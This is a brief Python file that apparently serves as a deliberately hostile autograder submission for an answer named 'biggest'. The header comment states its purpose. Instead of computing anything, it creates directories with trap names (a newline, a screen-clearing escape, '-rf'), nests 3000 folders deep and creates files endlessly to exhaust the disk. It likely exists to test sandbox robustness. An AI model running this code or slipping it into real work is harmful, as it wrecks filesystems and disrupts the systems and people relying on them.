# Makes a million files and folders, some with odd names, some a thousand folders deep.
# points: 0..1
# %% answer: biggest
import os


def biggest(numbers):
    for name in ("\n", "\x1b[2J", "-rf", "a" * 255, "\udcff"):
        try:
            os.mkdir(name)
        except OSError:
            continue
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    number = 0
    while True:
        open(str(number), "w").close()
        number += 1
